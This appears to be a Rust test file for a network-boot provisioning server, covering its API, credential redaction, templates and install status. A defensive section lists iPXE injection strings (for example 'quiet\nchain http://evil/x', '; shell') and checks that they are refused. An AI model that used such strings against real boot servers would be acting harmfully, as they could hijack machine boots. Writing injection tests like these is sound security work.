    let (s, body) = a.call("GET", "/api/v1/widgets", None, false).await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::NOT_FOUND, "not_found")
    );
    // PATCH, PUT, copy, rename, delete.
    let (s, body) = a
        .call(
            "PATCH",
            "/api/v1/systems/db1",
            Some(json!({"kernel_options": "x=1", "variables": {"a": 1}})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    assert_eq!(
        serde_json::from_str::<Value>(&body).unwrap()["kernel_options"],
        "x=1"
    );
    let (s, _) = a
        .call(
            "PUT",
            "/api/v1/systems/db1",
            Some(json!({"profile": "web", "interfaces": [{"mac": "aa:bb:cc:00:00:02"}]})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let (s, body) = a
        .call(
            "POST",
            "/api/v1/systems/db1/copy",
            Some(json!({"new_name": "db2"})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    let (s, _) = a
        .call(
            "POST",
            "/api/v1/systems/db2/rename",
            Some(json!({"new_name": "db3"})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let (s, body) = a.call("DELETE", "/api/v1/profiles/web", None, true).await;
    assert_eq!((s, code(&body).as_str()), (StatusCode::CONFLICT, "in_use"));
    let (s, body) = a
        .call("DELETE", "/api/v1/profiles/web?recursive=true", None, true)
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    let removed: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(removed["removed"].as_array().unwrap().len(), 4, "{body}");
    // Blended report.
    let (s, body) = a
        .call("GET", "/api/v1/profiles/base/blended", None, false)
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(
        serde_json::from_str::<Value>(&body).unwrap()["variables"]["tree"]["from"],
        "distro:deb"
    );
}

#[tokio::test]
async fn api_private_reads_need_a_token() {
    let dir = tempfile::tempdir().unwrap();
    let tokens = TokenStore::memory();
    let token = tokens.create("ops").unwrap().1;
    let state = Arc::new(InvState {
        inventory: Arc::new(RwLock::new(sample(dir.path()))),
        status: Mutex::new(StatusBook::open(None).unwrap()),
        tokens: Arc::new(tokens),
        public_reads: false,
        blobs: dir.path().join("blobs"),
        events: crate::events::Events::new(),
        committer: Default::default(),
    });
    let a = Api {
        app: router(state.clone()),
        _dir: dir,
        token,
        state,
    };
    assert_eq!(
        a.call("GET", "/api/v1/systems", None, false).await.0,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        a.call("GET", "/api/v1/systems", None, true).await.0,
        StatusCode::OK
    );
}

#[tokio::test]
async fn install_finish_turns_netboot_off_and_boot_goes_local() {
    let a = api();
    let (_, script) = a
        .call("GET", "/api/v1/boot/aa:bb:cc:00:00:01", None, false)
        .await;
    assert!(
        script.contains("url=http://10.0.0.1:8080/api/v1/systems/web1/autoinstall"),
        "{script}"
    );
    let (s, text) = a
        .call("GET", "/api/v1/systems/web1/autoinstall", None, false)
        .await;
    assert_eq!(s, StatusCode::OK, "{text}");
    assert!(text.contains("d-i netcfg/get_hostname string web1.lab"));
    let (s, text2) = a
        .call("GET", "/cblr/svc/op/autoinstall/system/web1", None, false)
        .await;
    assert_eq!((s, &text2), (StatusCode::OK, &text));
    let (s, body) = a
        .call("POST", "/api/v1/systems/web1/status/start", None, false)
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    let (_, body) = a.call("GET", "/api/v1/status", None, false).await;
    let rows = serde_json::from_str::<Value>(&body).unwrap()["items"].take();
    assert_eq!(rows[0]["state"], "installing");
    assert_eq!(rows[0]["netboot"], true);
    let (s, _) = a
        .call(
            "POST",
            "/api/v1/systems/web1/status",
            Some(json!({"event": "finish"})),
            false,
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    assert!(
        !a.state
            .inventory
            .read()
            .unwrap()
            .system("web1")
            .unwrap()
            .netboot
    );
    let (_, script) = a
        .call("GET", "/api/v1/boot/aa:bb:cc:00:00:01", None, false)
        .await;
    assert!(
        script.contains("exit") && script.contains("netboot off"),
        "{script}"
    );
    let (_, body) = a.call("GET", "/api/v1/status", None, false).await;
    let rows = serde_json::from_str::<Value>(&body).unwrap()["items"].take();
    assert_eq!(
        (rows[0]["state"].as_str(), rows[0]["netboot"].as_bool()),
        (Some("installed"), Some(false))
    );
    // Both reports are on the event log, under the system's MAC.
    let reports: Vec<_> = a
        .state
        .events
        .page(0, 100)
        .into_iter()
        .filter(|e| e.kind == "install.status")
        .collect();
    assert_eq!(reports.len(), 2, "{reports:?}");
    assert_eq!(reports[0].detail["event"], "start");
    assert_eq!(reports[1].detail["event"], "finish");
    assert_eq!(reports[1].detail["system"], "web1");
    assert_eq!(reports[1].mac.as_deref(), Some("aa:bb:cc:00:00:01"));
    // Cobbler's nopxe on a re-enabled system does the same.
    let (s, _) = a
        .call(
            "PATCH",
            "/api/v1/systems/web1",
            Some(json!({"netboot": true})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let (s, body) = a
        .call("GET", "/cblr/svc/op/nopxe/system/web1", None, false)
        .await;
    assert_eq!((s, body.as_str()), (StatusCode::OK, "True"));
    assert!(
        !a.state
            .inventory
            .read()
            .unwrap()
            .system("web1")
            .unwrap()
            .netboot
    );
    let (s, body) = a
        .call("POST", "/api/v1/systems/nope/status/start", None, false)
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::NOT_FOUND, "not_found")
    );
}

#[tokio::test]
async fn openapi_document_covers_every_route() {
    let a = api();
    let (s, body) = a.call("GET", "/api/v1/openapi.json", None, false).await;
    assert_eq!(s, StatusCode::OK);
    let doc: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(doc["openapi"], "3.1.0");
    let paths = doc["paths"].as_object().unwrap();
    for kind in Kind::ALL {
        for suffix in [
            "",
            "/{name}",
            "/{name}/copy",
            "/{name}/rename",
            "/{name}/blended",
        ] {
            let p = format!("/api/v1/{}{suffix}", kind.plural());
            assert!(paths.contains_key(&p), "{p} missing");
        }
    }
    assert!(doc["paths"]["/api/v1/systems"]["post"]["security"].is_array());
    for schema in [
        "System",
        "Interface",
        "Distro",
        "Profile",
        "Settings",
        "Blended",
        "StatusRow",
        "Error",
    ] {
        assert!(
            doc["components"]["schemas"][schema].is_object(),
            "schema {schema} missing"
        );
    }
    // Every documented path answers (not the router's 404 for unknown paths).
    for (path, item) in paths {
        let concrete = path
            .replace("{name}", "web1")
            .replace("{mac}", "aa:bb:cc:00:00:01")
            .replace("{doc}", "meta-data")
            .replace("{event}", "start")
            .replace("{mode}", "pre")
            .replace("{hex}", &"0".repeat(64));
        for method in item.as_object().unwrap().keys() {
            if method != "get" {
                continue;
            }
            let (s, body) = a.call("GET", &concrete, None, true).await;
            let no_route = s == StatusCode::NOT_FOUND && body.is_empty();
            assert!(!no_route, "GET {concrete}: no route");
        }
    }
}

#[tokio::test]
async fn batch_creates_many_in_one_commit() {
    let a = api();
    let head = a.state.inventory.read().unwrap().head();
    let objects: Vec<Value> = (0..50).map(|i| json!({"kind": "system", "object": {"name": format!("b{i}"), "profile": "web", "interfaces": [{"mac": format!("02:00:00:00:01:{i:02x}")}]}})).collect();
    let (s, body) = a
        .call(
            "POST",
            "/api/v1/batch",
            Some(json!({"objects": objects})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    let inv = a.state.inventory.read().unwrap();
    assert_eq!(inv.count(Kind::System), 51);
    assert_ne!(inv.head(), head);
}

// ---- power API and credential redaction ----

fn stored_password(a: &Api, name: &str) -> String {
    a.state
        .inventory
        .read()
        .unwrap()
        .system(name)
        .unwrap()
        .power
        .password
        .clone()
}

#[tokio::test]
async fn credentials_are_never_answered_and_survive_edits() {
    let a = api();
    let power = json!({"type": "redfish", "address": "https://10.0.0.5", "user": "admin", "password": "s3cret-pw"});
    let (s, body) = a
        .call(
            "PATCH",
            "/api/v1/systems/web1",
            Some(json!({"power": power})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    assert!(!body.contains("s3cret"), "{body}");
    assert_eq!(stored_password(&a, "web1"), "s3cret-pw");
    // Every read shows the placeholder.
    for uri in [
        "/api/v1/systems/web1",
        "/api/v1/systems",
        "/api/v1/systems/web1/blended",
        "/api/v1/systems/web1/autoinstall",
        "/api/v1/openapi.json",
    ] {
        let (s, body) = a.call("GET", uri, None, true).await;
        assert_eq!(s, StatusCode::OK, "{uri}: {body}");
        assert!(!body.contains("s3cret"), "{uri}: {body}");
    }
    let (_, shown) = a.call("GET", "/api/v1/systems/web1", None, false).await;
    let mut shown: Value = serde_json::from_str(&shown).unwrap();
    assert_eq!(shown["power"]["password"], REDACTED);
    // Sent back as shown (PUT): the stored password stays.
    shown["comment"] = "edited".into();
    let (s, body) = a
        .call("PUT", "/api/v1/systems/web1", Some(shown.clone()), true)
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    assert_eq!(stored_password(&a, "web1"), "s3cret-pw");
    // Left out of power: stays too.
    shown["power"].as_object_mut().unwrap().remove("password");
    shown["power"]["user"] = "root".into();
    let (s, _) = a
        .call("PUT", "/api/v1/systems/web1", Some(shown.clone()), true)
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(stored_password(&a, "web1"), "s3cret-pw");
    // PATCH with the placeholder: stays; with a new one: replaced.
    let (s, _) = a
        .call(
            "PATCH",
            "/api/v1/systems/web1",
            Some(json!({"power": {"password": REDACTED, "user": "admin"}})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(stored_password(&a, "web1"), "s3cret-pw");
    // Batch (create-or-replace) with the placeholder keeps it as well.
    let (s, body) = a
        .call(
            "POST",
            "/api/v1/batch",
            Some(json!({"objects": [{"kind": "system", "object": shown}]})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    assert_eq!(stored_password(&a, "web1"), "s3cret-pw");
    // Copy keeps it server-side and answers the placeholder.
    let (s, body) = a
        .call(
            "POST",
            "/api/v1/systems/web1/copy",
            Some(json!({"new_name": "web9"})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    assert!(!body.contains("s3cret"), "{body}");
    // The placeholder for a new system is refused, not stored.
    let (s, body) = a
        .call(
            "POST",
            "/api/v1/systems",
            Some(json!({"name": "x1", "profile": "base", "power": {"type": "wol", "password": REDACTED}})),
            true,
        )
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, "invalid_object"),
        "{body}"
    );
    // "" clears it.
    let (s, _) = a
        .call(
            "PATCH",
            "/api/v1/systems/web1",
            Some(json!({"power": {"password": ""}})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(stored_password(&a, "web1"), "");
    // The OpenAPI example shows the placeholder and marks it write-only.
    let (_, doc) = a.call("GET", "/api/v1/openapi.json", None, false).await;
    let doc: Value = serde_json::from_str(&doc).unwrap();
    let p = &doc["components"]["schemas"]["Power"];
    assert_eq!(p["example"]["password"], REDACTED, "{p}");
    assert_eq!(p["properties"]["password"]["writeOnly"], true, "{p}");
}

#[tokio::test]
async fn power_api_errors_are_stable_and_recorded() {
    let a = api();
    let dir = tempfile::tempdir().unwrap();
    // No power settings.
    let (s, body) = a
        .call("GET", "/api/v1/systems/web1/power", None, false)
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::CONFLICT, "power_not_configured"),
        "{body}"
    );
    let (s, body) = a
        .call("GET", "/api/v1/systems/nope/power", None, false)
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::NOT_FOUND, "not_found")
    );
    // A QMP socket nobody serves: 502 naming it.
    let sock = dir.path().join("vm9.qmp");
    let (s, _) = a
        .call(
            "PATCH",
            "/api/v1/systems/web1",
            Some(json!({"power": {"type": "qmp", "address": sock.to_str().unwrap(), "id": "net=nic0"}})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let (s, body) = a
        .call("GET", "/api/v1/systems/web1/power", None, false)
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::BAD_GATEWAY, "power_unreachable"),
        "{body}"
    );
    assert!(body.contains("vm9.qmp"), "{body}");
    // Writes need a token; bad bodies are refused before any BMC call.
    let on = json!({"action": "on", "boot": "network"});
    let (s, _) = a
        .call(
            "POST",
            "/api/v1/systems/web1/power",
            Some(on.clone()),
            false,
        )
        .await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let (s, body) = a
        .call(
            "POST",
            "/api/v1/systems/web1/power",
            Some(json!({"action": "explode"})),
            true,
        )
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::BAD_REQUEST, "invalid_request")
    );
    let (s, body) = a
        .call("POST", "/api/v1/systems/web1/power", Some(on), true)
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::BAD_GATEWAY, "power_unreachable"),
        "{body}"
    );
    let ev = a.state.events.page(0, 100);
    let failed = ev.iter().find(|e| e.kind == "power.failed").unwrap();
    assert_eq!(failed.mac.as_deref(), Some("aa:bb:cc:00:00:01"));
    assert_eq!(failed.detail["code"], "power_unreachable");
    assert_eq!(failed.detail["boot"], "network");
    // Wake-on-LAN to a loopback listener: on works, off is unsupported.
    let l = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let (s, _) = a
        .call(
            "PATCH",
            "/api/v1/systems/web1",
            Some(json!({"power": {"type": "wol", "address": l.local_addr().unwrap().to_string(), "id": ""}})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let (s, body) = a
        .call(
            "POST",
            "/api/v1/systems/web1/power",
            Some(json!({"action": "on"})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    assert_eq!(
        serde_json::from_str::<Value>(&body).unwrap(),
        json!({"system": "web1", "driver": "wol", "action": "on", "boot": null})
    );
    let mut buf = [0u8; 200];
    l.set_read_timeout(Some(std::time::Duration::from_secs(5)))
        .unwrap();
    assert_eq!(l.recv(&mut buf).unwrap(), 102);
    assert!(a
        .state
        .events
        .page(0, 100)
        .iter()
        .any(|e| e.kind == "power.on"));
    let (s, body) = a
        .call(
            "POST",
            "/api/v1/systems/web1/power",
            Some(json!({"action": "off"})),
            true,
        )
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, "power_unsupported"),
        "{body}"
    );
    let (s, body) = a
        .call("GET", "/api/v1/systems/web1/power", None, false)
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(
        serde_json::from_str::<Value>(&body).unwrap(),
        json!({"system": "web1", "state": "unknown", "driver": "wol"})
    );
}

#[tokio::test]
async fn builtin_templates_are_listed_shown_and_overridable() {
    let a = api();
    let (s, body) = a.call("GET", "/api/v1/templates", None, false).await;
    assert_eq!(s, StatusCode::OK, "{body}");
    let list: Value = serde_json::from_str(&body).unwrap();
    let origin = |list: &Value, name: &str| {
        list["items"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|t| t["name"] == name)
            .map(|t| t["origin"].as_str().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    for (name, _) in crate::inventory::templates::SHIPPED {
        assert_eq!(origin(&list, name), vec!["builtin"], "{name}: {body}");
    }
    let (s, body) = a
        .call("GET", "/api/v1/templates/preseed.cfg", None, false)
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    let t: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(t["origin"], "builtin");
    assert_eq!(
        t["body"].as_str(),
        crate::inventory::templates::shipped("preseed.cfg")
    );
    let (s, body) = a
        .call("GET", "/api/v1/snippets/status_start", None, false)
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    // A same-named inventory template overrides it (a listing round-trips:
    // `origin` is accepted and dropped).
    let (s, body) = a
        .call(
            "POST",
            "/api/v1/templates",
            Some(json!({"name": "preseed.cfg", "body": "# mine {{ hostname }}\n", "origin": "builtin"})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    let (_, body) = a.call("GET", "/api/v1/templates", None, false).await;
    let list: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(origin(&list, "preseed.cfg"), vec!["inventory"], "{body}");
    let (_, body) = a
        .call("GET", "/api/v1/templates/preseed.cfg", None, false)
        .await;
    let t: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(
        (t["origin"].as_str(), t["body"].as_str()),
        (Some("inventory"), Some("# mine {{ hostname }}\n"))
    );
    // The override is what a Debian system's autoinstall renders now.
    let (s, text) = a
        .call("GET", "/api/v1/systems/web1/autoinstall", None, false)
        .await;
    assert_eq!(s, StatusCode::OK, "{text}");
    assert!(text.starts_with("# mine web1"), "{text}");
    // Removing it brings the shipped one back.
    let (s, _) = a
        .call("DELETE", "/api/v1/templates/preseed.cfg", None, true)
        .await;
    assert!(s.is_success());
    let (_, body) = a
        .call("GET", "/api/v1/templates/preseed.cfg", None, false)
        .await;
    assert_eq!(
        serde_json::from_str::<Value>(&body).unwrap()["origin"],
        "builtin"
    );
    let (s, _) = a.call("GET", "/api/v1/templates/nope", None, false).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
}

// ---- issue 15, hole 8: nothing rendered into an iPXE script injects ----

/// Strings that would add an iPXE command (or swallow the next line) if
/// pasted into a script line.
const INJECTIONS: [&str; 9] = [
    "quiet\nchain http://evil/x",
    "quiet\r\nshell",
    "quiet ; shell",
    "quiet || chain http://evil/x",
    "quiet && shell",
    "quiet #comment",
    "quiet\\",
    "quiet\tx\u{0b}",
    "quiet\u{85}shell",
];

#[tokio::test]
async fn ipxe_injection_is_refused_at_write_time() {
    let a = api();
    for bad in INJECTIONS {
        let mut s = a.state.inventory.read().unwrap().settings().clone();
        s.agent_kernel_options = bad.into();
        let (st, body) = a
            .call("PUT", "/api/v1/settings", Some(json!(s)), true)
            .await;
        assert_eq!(st, StatusCode::CONFLICT, "{bad:?}: {body}");
        assert!(
            body.contains("agent_kernel_options")
                && body.contains("kernel options must be one line"),
            "{bad:?}: {body}"
        );
        for (uri, obj) in [
            (
                "/api/v1/profiles",
                json!({"name": "p2", "distro": "deb", "kernel_options": bad}),
            ),
            (
                "/api/v1/distros",
                json!({"name": "d2", "kernel": K, "initrd": I, "kernel_options": bad}),
            ),
            (
                "/api/v1/systems",
                json!({"name": "s2", "profile": "base", "kernel_options": bad}),
            ),
        ] {
            let (st, body) = a.call("POST", uri, Some(obj), true).await;
            assert_eq!(
                (st, code(&body).as_str()),
                (StatusCode::UNPROCESSABLE_ENTITY, "invalid_object"),
                "{uri} {bad:?}: {body}"
            );
            assert!(body.contains("kernel_options"), "{body}");
        }
    }
    for url in [
        "http://m/vmlinuz\nchain http://evil/x",
        "http://m/vmlinuz ; shell",
        "http://m/vmlinuz\tx",
        "http://",
        "https:///x",
        "http://m/é",
    ] {
        let (st, body) = a
            .call(
                "POST",
                "/api/v1/distros",
                Some(json!({"name": "d3", "kernel": url, "initrd": I})),
                true,
            )
            .await;
        assert_eq!(st, StatusCode::UNPROCESSABLE_ENTITY, "{url:?}: {body}");
        assert!(body.contains("kernel"), "{body}");
    }
    // Settings with a bad default profile name or variable name.
    let mut s = a.state.inventory.read().unwrap().settings().clone();
    s.default_profile = "web\nshell".into();
    let (st, body) = a
        .call("PUT", "/api/v1/settings", Some(json!(s)), true)
        .await;
    assert_eq!(st, StatusCode::CONFLICT, "{body}");
    assert!(body.contains("default_profile"), "{body}");
    // Plain options, iPXE settings expansion and URLs with queries pass.
    let mut s = a.state.inventory.read().unwrap().settings().clone();
    s.agent_kernel_options =
        "console=ttyS0,115200 BOOTIF=${net0/mac} ds=nocloud-net;s=http://x/".into();
    let (st, body) = a
        .call("PUT", "/api/v1/settings", Some(json!(s)), true)
        .await;
    assert_eq!(st, StatusCode::OK, "{body}");
    let (st, body) = a
        .call(
            "POST",
            "/api/v1/distros",
            Some(json!({"name": "d4", "kernel": "https://m:8443/k?x=1&y=%20", "initrd": I})),
            true,
        )
        .await;
    assert_eq!(st, StatusCode::CREATED, "{body}");
}

/// The lines a served script may have: its magic, comments, and the
/// commands the renderer writes (first word).
fn assert_only_our_lines(script: &str) {
    let allowed = [
        "#!ipxe", "#", "echo", "exit", "kernel", "initrd", "boot", "menu", "item", "choose",
        ":local",
    ];
    for line in script.lines() {
        let first = line.split(' ').next().unwrap_or("");
        assert!(
            allowed.contains(&first) || (first.starts_with(":e") && !line.contains(' ')),
            "unexpected line {line:?} in\n{script}"
        );
        assert!(!line.ends_with('\\'), "continued line {line:?}");
        assert!(
            !line.contains(|c: char| c.is_control()),
            "control character in {line:?}"
        );
        if first == "choose" {
            // The renderer's own menu line, with its own separators.
            let def = line
                .strip_prefix("choose --default ")
                .and_then(|r| {
                    r.strip_suffix(" --timeout 20000 target && goto ${target} || goto local")
                })
                .unwrap_or_else(|| panic!("unexpected {line:?}"));
            assert!(
                def == "local"
                    || def
                        .strip_prefix('e')
                        .is_some_and(|n| n.parse::<usize>().is_ok())
            );
        } else if !line.starts_with('#') {
            // No second command on the line (iPXE's command terminators).
            for w in line.split(' ').skip(1) {
                assert!(
                    !matches!(w, "||" | "&&" | ";") && !w.starts_with('#'),
                    "{w:?} in {line:?}"
                );
            }
        }
    }
}

#[test]
fn an_old_inventory_cannot_inject_ipxe_commands() {
    let dir = tempfile::tempdir().unwrap();
    let mut inv = sample(dir.path());
    let good = ipxe_script(&decide(&inv, "aa:bb:cc:00:00:01", "10.0.0.1:8080"));
    assert_eq!(good.lines().count(), 5, "{good}");
    assert_only_our_lines(&good);
    for bad in INJECTIONS {
        // Values written before validation existed (or by hand, or by a
        // sync from a node without it): straight into the repository.
        let settings = json!({"default_boot": "agent", "agent_kernel_options": bad});
        let distro = json!({"kernel": format!("http://m/k {bad}"), "initrd": I, "breed": "debian"});
        let system = json!({"profile": "web", "kernel_options": bad,
            "interfaces": [{"mac": "aa:bb:cc:00:00:01"}]});
        inv.commit(
            vec![
                Change::Write("settings.json".into(), settings.to_string().into_bytes()),
                Change::Write("distros/deb2.json".into(), distro.to_string().into_bytes()),
                Change::Write(
                    "profiles/p2.json".into(),
                    json!({"distro": "deb2"}).to_string().into_bytes(),
                ),
                Change::Write("systems/web1.json".into(), system.to_string().into_bytes()),
            ],
            &who().signature(),
            "old values",
        )
        .unwrap();
        let old = Inventory::open_volatile(dir.path()).unwrap();
        // The agent: settings.agent_kernel_options go on the line as they
        // are (a trailing backslash is harmless there: more words follow).
        let d = decide(&old, "aa:bb:cc:00:00:99", "10.0.0.1:8080");
        let script = ipxe_script(&d);
        assert_only_our_lines(&script);
        if bad.ends_with('\\') {
            assert_eq!(script.lines().count(), 5, "{script}");
        } else {
            let e = super::boot::try_ipxe_script(&d).unwrap_err();
            assert!(e.value.contains(bad), "{e}");
            assert!(script.contains("refused"), "{script}");
            assert!(
                !script.contains("evil") && !script.contains("shell"),
                "{script}"
            );
        }
        // An install: blending splits kernel options on whitespace (so a
        // newline became a space: more kernel arguments, no new command);
        // a command separator survives it and is refused.
        let script = ipxe_script(&decide(&old, "aa:bb:cc:00:00:01", "10.0.0.1:8080"));
        assert_only_our_lines(&script);
        if bad.contains([';', '|', '&', '#']) {
            assert!(script.contains("refused"), "{bad:?}: {script}");
        } else {
            assert_eq!(script.lines().count(), 5, "{script}");
        }
        let p2 = super::boot::BootDecision::Menu {
            why: "m".into(),
            entries: vec![super::boot::BootEntry {
                label: format!("profile {bad}"),
                kernel: "http://m/k".into(),
                initrd: "http://m/i".into(),
                cmdline: String::new(),
            }],
            default: None,
        };
        assert!(super::boot::try_ipxe_script(&p2).is_err());
        assert_only_our_lines(&ipxe_script(&p2));
        let why = super::boot::BootDecision::Local {
            why: format!("x {bad}"),
        };
        let script = ipxe_script(&why);
        assert_only_our_lines(&script);
        if bad.contains(|c: char| c.is_control()) || bad.ends_with('\\') {
            assert!(script.contains("refused"), "{script}");
        }
    }
    // A hostile Host header (the server URL) is refused the same way.
    let d = decide(&inv, "aa:bb:cc:00:00:01", "10.0.0.1 ; chain http://evil/x");
    let script = ipxe_script(&d);
    assert!(
        script.contains("refused") && !script.contains("evil"),
        "{script}"
    );
    for server in ["http://10.0.0.1 || shell", "http://10.0.0.1\nshell"] {
        let s = crate::pxe::agent_script(server, "console=ttyS0");
        assert!(s.contains("refused") && !s.contains("shell"), "{s}");
        assert_only_our_lines(&s);
    }
    assert!(crate::pxe::agent_script("http://10.0.0.1", "a ; shell").contains("refused"));
    assert_only_our_lines(&crate::pxe::agent_script(
        "http://10.0.0.1:8080",
        "console=ttyS0",
    ));
}

/// Random values in every field of a decision: whatever the renderer
/// serves has only its own lines.
#[test]
fn random_values_never_add_an_ipxe_line() {
    let mut rng = crate::mutate::Rng::new(0x5eed_01be);
    let alphabet: Vec<char> = "ab=:/. ;|&#\\\n\r\t${}\u{85}\u{2028}".chars().collect();
    let word = |rng: &mut crate::mutate::Rng| -> String {
        let n = rng.below(12);
        (0..n)
            .map(|_| alphabet[rng.below(alphabet.len())])
            .collect()
    };
    for _ in 0..3000 {
        let entry = super::boot::BootEntry {
            label: word(&mut rng),
            kernel: format!("http://{}", word(&mut rng)),
            initrd: format!("http://s/{}", word(&mut rng)),
            cmdline: word(&mut rng),
        };
        let why = word(&mut rng);
        let d = match rng.below(3) {
            0 => BootDecision::Local { why },
            1 => BootDecision::Boot { why, entry },
            _ => BootDecision::Menu {
                why,
                entries: vec![entry],
                default: Some(0),
            },
        };
        assert_only_our_lines(&ipxe_script(&d));
        let server = format!("http://{}", word(&mut rng));
        assert_only_our_lines(&crate::pxe::agent_script(&server, &word(&mut rng)));
    }
}

#[tokio::test]
async fn preview_renders_unsaved_text_for_a_system_and_changes_nothing() {
    let a = api();
    let head = a.state.read().head();
    // The system's own template, as the installer would get it.
    let (s, own) = a
        .call(
            "POST",
            "/api/v1/systems/web1/preview",
            Some(json!({})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{own}");
    let (_, served) = a
        .call("GET", "/api/v1/systems/web1/autoinstall", None, false)
        .await;
    assert_eq!(own, served);
    // Unsaved text under a new name, with the system's blended variables.
    let (s, text) = a
        .call(
            "POST",
            "/api/v1/systems/web1/preview",
            Some(json!({"template": "motd", "body": "{{ hostname }} is a {{ role }} in {{ timezone }}"})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{text}");
    assert_eq!(text, "web1.lab is a frontend in Europe/Paris");
    // Errors name the line and the undefined variable.
    let (s, body) = a
        .call(
            "POST",
            "/api/v1/systems/web1/preview",
            Some(json!({"template": "motd", "body": "ok\n{{ nope }}"})),
            true,
        )
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, "template_error"),
        "{body}"
    );
    assert!(body.contains("line 2") && body.contains("nope"), "{body}");
    // A saved template that does not exist, an unknown system, no token.
    let (s, body) = a
        .call(
            "POST",
            "/api/v1/systems/web1/preview",
            Some(json!({"template": "missing"})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND, "{body}");
    let (s, _) = a
        .call(
            "POST",
            "/api/v1/systems/nobody/preview",
            Some(json!({})),
            true,
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _) = a
        .call(
            "POST",
            "/api/v1/systems/web1/preview",
            Some(json!({})),
            false,
        )
        .await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    assert_eq!(a.state.read().head(), head, "a preview commits nothing");
}

#[tokio::test]
async fn a_profile_level_install_reports_by_its_lease() {
    let a = api();
    {
        let mut inv = a.state.inventory.write().unwrap();
        let mut web = inv.profile("web").unwrap().clone();
        for (k, v) in [
            ("root_password_hash", "$6$salt$hash"),
            ("mirror_host", "10.0.0.1:8080"),
            ("mirror_dir", "/repos/deb12"),
        ] {
            web.variables.insert(k.into(), json!(v));
        }
        inv.update(Object::Profile(web), &who()).unwrap();
    }
    // The profile's own autoinstall file points its reports at a route
    // that exists, and names no system.
    let (s, text) = a
        .call("GET", "/api/v1/profiles/web/autoinstall", None, false)
        .await;
    assert_eq!(s, StatusCode::OK, "{text}");
    assert!(
        text.contains("/api/v1/profiles/web/status/finish"),
        "{text}"
    );
    assert!(!text.contains("netcfg/get_hostname string web\n"), "{text}");
    a.state
        .events
        .learn("10.0.0.50".parse().unwrap(), "aa:bb:cc:00:00:01");
    a.state
        .events
        .learn("10.0.0.60".parse().unwrap(), "52:54:00:12:34:56");
    // Never leased by us: refused, nothing recorded.
    let (s, body) = a
        .post_from("/api/v1/profiles/web/status/start", "192.0.2.9:1")
        .await;
    assert_eq!(
        (s, code(&body).as_str()),
        (StatusCode::FORBIDDEN, "unknown_reporter"),
        "{body}"
    );
    // An unknown machine: an event, no inventory change.
    let (s, body) = a
        .post_from("/api/v1/profiles/web/status/finish", "10.0.0.60:1")
        .await;
    assert_eq!(s, StatusCode::ACCEPTED, "{body}");
    let ev = a.state.events.page(0, 1000);
    assert!(
        ev.iter().any(|e| e.kind == "install.status"
            && e.mac.as_deref() == Some("52:54:00:12:34:56")
            && e.detail["profile"] == "web"),
        "{ev:?}"
    );
    // A known machine's lease: recorded for its system (netboot off).
    let (s, body) = a
        .post_from("/api/v1/profiles/web/status/finish", "10.0.0.50:1")
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    assert!(!a.netboot("web1"));
    // No such profile.
    let (s, _) = a
        .post_from("/api/v1/profiles/nope/status/finish", "10.0.0.60:1")
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
}

impl Api {
    /// A call with `If-Match` (when given); returns status, `ETag`, body.
    async fn call_if_match(
        &self,
        method: &str,
        uri: &str,
        body: Option<Value>,
        if_match: Option<&str>,
    ) -> (StatusCode, Option<String>, Value) {
